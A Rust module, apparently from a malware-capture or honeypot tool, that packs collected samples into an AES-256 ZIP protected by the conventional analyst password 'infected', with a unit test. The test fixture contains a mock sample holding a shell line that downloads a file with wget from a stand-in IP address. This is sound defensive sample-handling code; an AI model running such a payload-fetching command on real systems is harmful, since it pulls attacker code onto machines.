//! Artifacts as they leave: in an encrypted archive, so that no scanner takes them on the way and nobody starts one by a click.
//!
//! ZIP with AES-256 (the WinZip extension AE-2), password `infected`, as analysts and their tools expect it.

use std::io::{Cursor, Write};

use turncoat_event::Sha256;
use zip::write::SimpleFileOptions;
use zip::{AesMode, CompressionMethod, ZipWriter};

/// The password by convention: it keeps nothing secret.
pub const PASSWORD: &str = "infected";

/// The archive with one file in it, named by its SHA-256.
///
/// # Errors
/// One line.
pub fn pack(sha256: Sha256, content: &[u8]) -> Result<Vec<u8>, String> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::with_capacity(content.len() + 512)));
    let options = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Stored)
        .with_aes_encryption(AesMode::Aes256, PASSWORD);
    zip.start_file(sha256.to_string(), options)
        .map_err(|e| e.to_string())?;
    zip.write_all(content).map_err(|e| e.to_string())?;
    Ok(zip.finish().map_err(|e| e.to_string())?.into_inner())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_of_the_content_is_readable_and_the_password_opens_it() {
        let content = b"\x7fELF #!/bin/sh wget http://192.0.2.1/x\n".repeat(100);
        let sha = turncoat_store::artifact::sha256(&content);
        let packed = pack(sha, &content).unwrap();
        assert!(!packed.windows(4).any(|w| w == b"\x7fELF" || w == b"wget"));
        let mut archive = zip::ZipArchive::new(Cursor::new(packed)).unwrap();
        assert!(archive.by_index(0).is_err(), "it wants a password");
        let mut file = archive.by_index_decrypt(0, PASSWORD.as_bytes()).unwrap();
        let mut out = Vec::new();
        std::io::Read::read_to_end(&mut file, &mut out).unwrap();
        assert_eq!(out, content);
    }
}
